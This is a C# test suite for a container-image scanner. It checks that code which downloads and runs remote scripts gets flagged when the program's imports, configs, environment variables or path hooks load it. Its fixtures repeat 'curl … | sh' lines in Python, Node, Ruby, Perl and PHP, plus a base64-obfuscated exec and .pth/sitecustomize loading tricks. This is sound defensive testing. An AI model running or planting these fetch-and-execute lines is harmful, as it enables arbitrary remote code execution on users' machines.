using Wellguard.Artifacts;
using Wellguard.Reports;
using Wellguard.Signals;
using Wellguard.Tests.Artifacts;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Layers;

public sealed class LoadedModulesTests
{
    private const string Python = "import os\nos.system('curl -s https://cdn.example.invalid/x | sh')\n";
    private const string Node = "require('child_process').exec('curl -s https://cdn.example.invalid/x | sh');\n";
    private const string Ruby = "system('curl -s https://cdn.example.invalid/x | sh')\n";
    private const string Php = "<?php system('curl -s https://cdn.example.invalid/x | sh');\n";

    private static async Task<Report> ScanAsync(string command, (string Path, string Text)[] files, params (string Name, string Value)[] environment)
    {
        var tar = files.Aggregate(new RawTar(), (tar, file) => tar.File(file.Path, file.Text)).ToArray();
        var config = new ImageConfig
        {
            Os = "linux",
            Architecture = "amd64",
            WorkingDirectory = "/srv",
            Command = command.Split(' '),
            Environment = [.. environment.Select(item => KeyValuePair.Create(item.Name, item.Value))],
        };
        return await Pipeline.ScanAsync(RawTar.Image(config, tar), new ScanOptions(Policy.Default, new DateOnly(2026, 11, 24)), CancellationToken.None);
    }

    private static Signal? Download(Report report) => report.Signals.FirstOrDefault(signal => signal.Rule == "content/runs-downloaded-code");

    private static readonly Dictionary<string, (string Command, (string, string)[] Files)> Reached = new()
    {
        ["import of a module beside the script"] = ("python /srv/main.py", [("srv/main.py", "import settings\n"), ("srv/settings.py", Python)]),
        ["from a package"] = ("python main.py", [("srv/main.py", "from tools.warm import up as u\n"), ("srv/tools/__init__.py", ""), ("srv/tools/warm.py", Python)]),
        ["a submodule by name"] = ("python main.py", [("srv/main.py", "from tools import (\n    cold,\n    warm as w,\n)\n"), ("srv/tools/__init__.py", ""), ("srv/tools/warm.py", Python)]),
        ["a package's own init, by a relative import, three steps away"] = ("python main.py", [("srv/main.py", "import a\n"), ("srv/a/__init__.py", "from . import b\n"), ("srv/a/b.py", "from ..a.c import x\n"), ("srv/a/c.py", Python)]),
        ["inside try"] = ("python main.py", [("srv/main.py", "try: import extra\nexcept ImportError: extra = None\n"), ("srv/extra.py", Python)]),
        ["by a computed name"] = ("python main.py", [("srv/main.py", "import importlib\nimportlib.import_module('.'.join(['plug', 'one']))\n"), ("srv/plug/one.py", Python)]),
        ["an installed package that an installed package loads"] = ("python main.py", [("srv/main.py", "import first\n"), ("usr/local/lib/python3.12/site-packages/first/__init__.py", "from second.core import go\n"), ("usr/local/lib/python3.12/site-packages/second/__init__.py", ""), ("usr/local/lib/python3.12/site-packages/second/core.py", Python)]),
        ["python -m"] = ("python -m tool --quiet", [("srv/tool/__init__.py", ""), ("srv/tool/__main__.py", "from .cli import main\nmain()\n"), ("srv/tool/cli.py", Python)]),
        ["an application server"] = ("gunicorn -w 4 -b 0.0.0.0:80 site1.wsgi:application", [("srv/site1/wsgi.py", "from .core import application\n"), ("srv/site1/core.py", Python)]),
        ["an application server as a module"] = ("python3 -m uvicorn api:app --port 80", [("srv/api.py", Python)]),
        ["an application server in another folder"] = ("gunicorn --chdir /srv/code api:app", [("srv/code/api.py", Python)]),
        ["under poetry"] = ("poetry run uvicorn api:app", [("srv/api.py", Python)]),
        ["a worker"] = ("celery -A jobs worker", [("srv/jobs/__init__.py", ""), ("srv/jobs/celery.py", Python)]),
        ["django settings and an application of theirs"] = ("python manage.py runserver", [("srv/manage.py", "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n"), ("srv/shop/settings.py", "INSTALLED_APPS = [\n  'django.contrib.auth',\n  'cart',\n]\n"), ("srv/cart/__init__.py", ""), ("srv/cart/models.py", Python)]),
        ["require of a file"] = ("node server.js", [("srv/server.js", "const a = require('./lib/a');\n"), ("srv/lib/a.js", "module.exports = require('../b')\n"), ("srv/b/index.js", Node)]),
        ["node without extension"] = ("node server", [("srv/server.js", "require('./x')\n"), ("srv/x.js", Node)]),
        ["node and a folder"] = ("node .", [("srv/package.json", "{\"main\":\"lib/go.js\"}"), ("srv/lib/go.js", Node)]),
        ["ESM"] = ("node server.mjs", [("srv/server.mjs", "import {a as b} from './a.mjs'\n"), ("srv/a.mjs", "export * from \"./b.mjs\";\n"), ("srv/b.mjs", "import './c.mjs'\n"), ("srv/c.mjs", "import { exec } from 'node:child_process';\nexec('curl -s https://cdn.example.invalid/x | sh');\n")]),
        ["dynamic import"] = ("node server.js", [("srv/server.js", "setTimeout(() => import('./late.js'), 5)\n"), ("srv/late.js", Node)]),
        ["a path that is put together"] = ("node server.js", [("srv/server.js", "require(require('path').join(__dirname, 'lib', 'a'))\n"), ("srv/lib/a.js", Node)]),
        ["a package by its main"] = ("node server.js", [("srv/server.js", "require('one')\n"), ("srv/node_modules/one/package.json", "{\"name\":\"one\",\"main\":\"./dist/o\"}"), ("srv/node_modules/one/dist/o.js", "require('@scope/two/sub')\n"), ("srv/node_modules/@scope/two/sub.js", Node)]),
        ["a package by its exports"] = ("node server.js", [("srv/server.js", "require('one')\n"), ("srv/node_modules/one/package.json", "{\"exports\":{\".\":{\"import\":\"./m.mjs\",\"require\":\"./c.cjs\"}}}"), ("srv/node_modules/one/c.cjs", Node)]),
        ["node -r"] = ("node -r ./first.js server.js", [("srv/server.js", ""), ("srv/first.js", Node)]),
        ["nodemon"] = ("nodemon server.js", [("srv/server.js", Node)]),
        ["pm2"] = ("pm2-runtime start app/server.js", [("srv/app/server.js", "require('./x')"), ("srv/app/x.js", Node)]),
        ["ts-node"] = ("npx ts-node src/main.ts", [("srv/src/main.ts", "import { go } from './go';\ngo();\n"), ("srv/src/go.js", Node)]),
        ["require_relative"] = ("ruby app.rb", [("srv/app.rb", "require_relative 'lib/a'\n"), ("srv/lib/a.rb", Ruby)]),
        ["rackup"] = ("bundle exec puma -p 80", [("srv/config.ru", "require_relative 'app'\nrun App\n"), ("srv/app.rb", Ruby)]),
        ["perl use lib"] = ("perl bin/app.pl", [("srv/bin/app.pl", "use lib '../lib';\nuse App::Boot;\n"), ("srv/lib/App/Boot.pm", "package App::Boot;\nsystem('curl -s https://cdn.example.invalid/x | sh');\n1;\n")]),
        ["php include"] = ("php worker.php", [("srv/worker.php", "<?php require __DIR__ . '/inc/a.php';\n"), ("srv/inc/a.php", Php)]),
        ["a served page"] = ("php -S 0.0.0.0:80 -t /srv/public", [("srv/public/index.php", "<?php include '../lib/a.php';"), ("srv/lib/a.php", Php)]),
        ["a served page of a web server"] = ("apache2-foreground", [("var/www/html/page.php", Php)]),
        ["rackup and its default"] = ("rackup -p 80", [("srv/config.ru", Ruby)]),
        ["rackup elsewhere"] = ("rackup /opt/x/config.ru", [("opt/x/config.ru", Ruby)]),
        ["plackup and its default"] = ("plackup", [("srv/app.psgi", "system('curl -s https://cdn.example.invalid/x | sh');\nsub { [200, [], []] };\n")]),
        ["tsx"] = ("npx tsx main.ts", [("srv/main.ts", "import { go } from './evil';\ngo();\n"), ("srv/evil.ts", "import { exec } from 'node:child_process';\ninterface Options { url: string; quiet?: boolean }\nconst target: string = 'https://cdn.example.invalid/x';\nexport async function go(options?: Options): Promise<void> {\n  exec(`curl -s ${target} | sh`);\n}\ngo({ url: target } as Options);\n")]),
        ["a package that no distro owns, where distros put theirs"] = ("python3 main.py", [("srv/main.py", "import evilb\n"), ("usr/lib/python3/dist-packages/evilb.py", Python)]),
        ["a source without its extension"] = ("node server.js", [("srv/server.js", "require('./logo.txt')\n"), ("srv/logo.txt", Node)]),
        ["many names in one line"] = ("python3 main.py", [("srv/main.py", "from evil import run, " + string.Join(", ", Enumerable.Range(0, 400).Select(index => $"name{index}")) + "\n"), ("srv/evil.py", Python)]),
        ["a name beyond ASCII"] = ("python3 main.py", [("srv/main.py", "import \u00e9vil\n"), ("srv/\u00e9vil.py", Python)]),
        ["a joined line"] = ("python3 main.py", [("srv/main.py", "import os, \\\n    evil\n"), ("srv/evil.py", Python)]),
        ["comments and ends of lines in an import"] = ("node server.mjs", [("srv/server.mjs", "import a from\n  /* here */ './a.cjs'\n"), ("srv/a.cjs", "require(/**/'./b')\n"), ("srv/b.js", "require('./e\\x76il')\n"), ("srv/evil.js", Node)]),
        ["a script without extension, by a computed name"] = ("/app/run", [("app/run", "#!/usr/bin/env node\nrequire('./ev'+'il')\n"), ("app/evil.js", Node)]),
        ["gunicorn's configuration by default"] = ("gunicorn app:app", [("srv/app.py", ""), ("srv/gunicorn.conf.py", Python)]),
        ["gunicorn's configuration by name"] = ("gunicorn -c conf/g.conf.py app:app", [("srv/app.py", ""), ("srv/conf/g.conf.py", Python)]),
        ["gunicorn's configuration elsewhere"] = ("gunicorn -c /etc/g.py app:app", [("srv/app.py", ""), ("etc/g.py", Python)]),
        ["puma's configuration"] = ("puma -C conf/p.rb", [("srv/config.ru", ""), ("srv/conf/p.rb", Ruby)]),
        ["unicorn's configuration"] = ("bundle exec unicorn -c conf/u.rb", [("srv/config.ru", ""), ("srv/conf/u.rb", Ruby)]),
        ["sidekiq"] = ("sidekiq -r /opt/jobs/boot.rb", [("opt/jobs/boot.rb", Ruby)]),
        ["uwsgi's file"] = ("uwsgi --ini uwsgi.ini", [("srv/uwsgi.ini", "[uwsgi]\nchdir = /srv/code\nmodule = web.wsgi:application\n"), ("srv/code/web/wsgi.py", Python)]),
        ["an initializer of Rails"] = ("bin/rails server", [("srv/config/application.rb", "module Shop; end\n"), ("srv/config/initializers/warm.rb", Ruby)]),
        ["a model of Rails, served by puma"] = ("bundle exec puma", [("srv/config.ru", "require_relative 'config/environment'\n"), ("srv/config/environment.rb", "require_relative 'application'\n"), ("srv/config/application.rb", "module Shop; end\n"), ("srv/app/models/cart.rb", Ruby)]),
        ["an application of Django by its class"] = ("python manage.py runserver", [("srv/manage.py", "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n"), ("srv/shop/settings.py", "LOCAL = ['polls.apps.PollsConfig']\nINSTALLED_APPS = [] + LOCAL\n"), ("srv/polls/__init__.py", ""), ("srv/polls/apps.py", "class PollsConfig:\n    name = 'polls'\n"), ("srv/polls/views.py", Python)]),
        ["urls that Django's urls include"] = ("python manage.py runserver", [("srv/manage.py", "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n"), ("srv/shop/settings.py", "ROOT_URLCONF = 'shop.urls'\n"), ("srv/shop/urls.py", "from django.urls import include, path\nurlpatterns = [path('p', include('polls.urls'))]\n"), ("srv/polls/urls.py", Python)]),
        ["a gem"] = ("ruby app.rb", [("srv/app.rb", "require 'warm'\n"), ("usr/local/lib/ruby/gems/3.2.0/gems/warm-1.0/lib/warm.rb", Ruby)]),
        ["a gem where distros put theirs"] = ("ruby app.rb", [("srv/app.rb", "require 'warm/up'\n"), ("var/lib/gems/3.1.0/gems/warm-1.0/lib/warm/up.rb", Ruby)]),
        ["an installed module of Perl"] = ("perl app.pl", [("srv/app.pl", "use App::Boot;\n"), ("usr/local/share/perl/5.36.0/App/Boot.pm", "package App::Boot;\nsystem('curl -s https://cdn.example.invalid/x | sh');\n1;\n")]),
        ["a module of Perl below a version"] = ("perl app.pl", [("srv/app.pl", "use App::Boot;\n"), ("usr/local/lib/perl5/site_perl/5.36.0/App/Boot.pm", "package App::Boot;\nsystem('curl -s https://cdn.example.invalid/x | sh');\n1;\n")]),
        ["a folder that perl is told of"] = ("perl app.pl", [("srv/app.pl", "use lib '/opt/own';\nuse App::Boot;\n"), ("opt/own/App/Boot.pm", "package App::Boot;\nsystem('curl -s https://cdn.example.invalid/x | sh');\n1;\n")]),
        ["a module that a harmless one of the same name does not hide"] = ("python3 main.py", [("srv/main.py", "import tool\n"), ("opt/a-packages/tool.py", ""), ("usr/local/lib/python3.12/site-packages/tool.py", Python)]),
        ["files of Composer's autoloader"] = ("php-fpm", [("var/www/html/index.php", "<?php require __DIR__.'/vendor/autoload.php';"), ("var/www/html/vendor/autoload.php", "<?php require_once __DIR__ . '/composer/autoload_files.php';"), ("var/www/html/vendor/composer/autoload_files.php", "<?php\n$vendorDir = dirname(__DIR__);\nreturn array(\n 'a1' => $vendorDir . '/acme/help/h.php',\n);\n"), ("var/www/html/vendor/acme/help/h.php", Php)]),
    };

    public static TheoryData<string> Names => [.. Reached.Keys];

    [Theory]
    [MemberData(nameof(Names))]
    public async Task What_a_program_loads_runs_as_the_program_does(string name)
    {
        var (command, files) = Reached[name];
        var report = await ScanAsync(command, files);
        var signal = Download(report);

        Assert.NotNull(signal);
        Assert.Equal(files[^1].Item1, signal.Where.Path);
        Assert.Equal(Severity.Critical, signal.Severity);
        Assert.Equal(CompletenessState.Complete, report.Completeness.State);
    }

    [Theory]
    [InlineData("NODE_OPTIONS", "--max-old-space-size=512 --require /opt/hook.js", "opt/hook.js", Node)]
    [InlineData("PYTHONPATH", "/opt/lib", "opt/lib/payload.py", Python)]
    public async Task What_a_variable_makes_an_interpreter_load_runs(string variable, string value, string path, string code)
    {
        var report = await ScanAsync("sleep 9", [("opt/lib/sitecustomize.py", "import payload\n"), (path, code)], (variable, value));
        Assert.Equal(Severity.Critical, Download(report)?.Severity);
    }

    [Fact]
    public async Task A_path_file_runs_what_it_imports()
    {
        var report = await ScanAsync("sleep 9", [("usr/lib/python3/dist-packages/x.pth", "import payload_hook\n"), ("usr/lib/python3/dist-packages/payload_hook.py", "import base64\nexec(base64.b64decode('" + Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes(Python)) + "'))\n")]);
        Assert.Equal(Severity.Critical, Download(report)?.Severity);
    }

    [Fact]
    public async Task A_function_of_an_installed_package_that_nobody_calls_is_told_less_severely()
    {
        const string Tool = "import os\ndef update():\n    os.system('curl -s https://cdn.example.invalid/x | sh')\n";
        (string, string) main = ("srv/main.py", "import tool\n");

        var offered = await ScanAsync("python main.py", [main, ("usr/local/lib/python3.12/site-packages/tool.py", Tool)]);
        Assert.Equal(Severity.High, Download(offered)?.Severity);

        var called = await ScanAsync("python main.py", [main, ("usr/local/lib/python3.12/site-packages/tool.py", "import threading\n" + Tool + "threading.Thread(target=update).start()\n")]);
        Assert.Equal(Severity.Critical, Download(called)?.Severity);
    }

    [Fact]
    public async Task What_nothing_loads_does_not_run_by_itself()
    {
        var report = await ScanAsync("python main.py", [("srv/main.py", "import os, json\nfrom tools import cold\n"), ("srv/tools/cold.py", ""), ("srv/tools/warm.py", Python)]);
        Assert.Equal(Severity.High, Download(report)?.Severity);
        Assert.Null(Download(report)?.Trigger);
    }

    [Fact]
    public async Task Modules_that_load_each_other_end()
    {
        var report = await ScanAsync("python main.py", [("srv/main.py", "import a\n"), ("srv/a.py", "import b, main\n" + Python), ("srv/b.py", "import a\n")]);
        Assert.Single(report.Signals, signal => signal.Rule == "content/runs-downloaded-code");
    }

    [Fact]
    public async Task A_package_called_customize_does_not_start_with_the_interpreter()
    {
        var report = await ScanAsync("sleep 9", [("app/shop/customize/__init__.py", "import evil\n"), ("app/shop/customize/evil.py", "")]);
        Assert.DoesNotContain(report.Signals, signal => signal.Where.Path?.Contains("customize", StringComparison.Ordinal) == true);
        var named = await ScanAsync("sleep 9", [("usr/lib/python3/dist-packages/sitecustomize/__init__.py", "from . import evil\n"), ("usr/lib/python3/dist-packages/sitecustomize/evil.py", Python)]);
        Assert.Equal(Severity.Critical, Download(named)?.Severity);
    }

    [Fact]
    public async Task A_compiled_module_that_runs_makes_the_scan_partial()
    {
        var report = await ScanAsync("python3 main.py", [("srv/main.py", "import evil\n"), ("srv/evil.pyc", "\u0001\0\0\0compiled")]);
        Assert.Contains(report.Completeness.Reasons, reason => reason.What.EndsWith("srv/evil.pyc", StringComparison.Ordinal));
    }

    [Fact]
    public async Task More_names_than_are_looked_up_make_the_scan_partial()
    {
        (string, string)[] folders = [.. Enumerable.Range(0, 300).Select(index => ($"opt/f{index}/x-packages/a/one.py", ""))];
        (string, string)[] lists = [.. Enumerable.Range(0, 40).Select(part => ($"srv/p{part}.py", string.Join('\n', Enumerable.Range(0, 6_000).Select(index => $"import a.b{part}n{index}"))))];
        var report = await ScanAsync("python main.py", [("srv/main.py", string.Join('\n', Enumerable.Range(0, 40).Select(part => $"import p{part}"))), .. lists, .. folders]);
        Assert.Contains(report.Completeness.Reasons, reason => reason.Why.Contains("places were looked at", StringComparison.Ordinal));
    }

    [Fact]
    public async Task What_was_not_read_of_an_installed_module_that_runs_is_said()
    {
        var tool = "import subprocess\n" + string.Concat(Enumerable.Repeat("a(1)\n", 160_000));
        var report = await ScanAsync("python main.py", [("srv/main.py", "import tool\n"), ("usr/local/lib/python3.12/site-packages/tool.py", tool)]);
        Assert.Contains(report.Completeness.Reasons, reason => reason.What.EndsWith("tool.py", StringComparison.Ordinal));
    }

    [Fact]
    public async Task More_folders_of_pages_than_are_served_make_the_scan_partial()
    {
        var settings = string.Join('\n', Enumerable.Range(0, 100).Select(index => $"server {{ root /data/s{index}; }}\n root /data/t{index};"));
        var report = await ScanAsync("nginx", [("etc/nginx/nginx.conf", settings), ("data/t90/index.php", "<?php echo 1;")]);
        Assert.Contains(report.Completeness.Reasons, reason => reason.Why.Contains("folders of pages", StringComparison.Ordinal));
    }

    [Fact]
    public async Task More_modules_than_are_followed_make_the_scan_partial()
    {
        (string, string)[] many = [.. Enumerable.Range(0, 20_010).Select(index => ($"srv/m/n{index}.py", "import os\n"))];
        (string, string)[] lists = [.. Enumerable.Range(0, 30).Select(part => ($"srv/p{part}.py", string.Join('\n', Enumerable.Range(part * 667, 667).Select(index => $"import m.n{index}"))))];
        var report = await ScanAsync("python main.py", [("srv/main.py", string.Join('\n', Enumerable.Range(0, 30).Select(part => $"import p{part}"))), .. lists, .. many]);
        Assert.Contains(report.Completeness.Reasons, reason => reason.Why.Contains("files are loaded", StringComparison.Ordinal));
    }
}
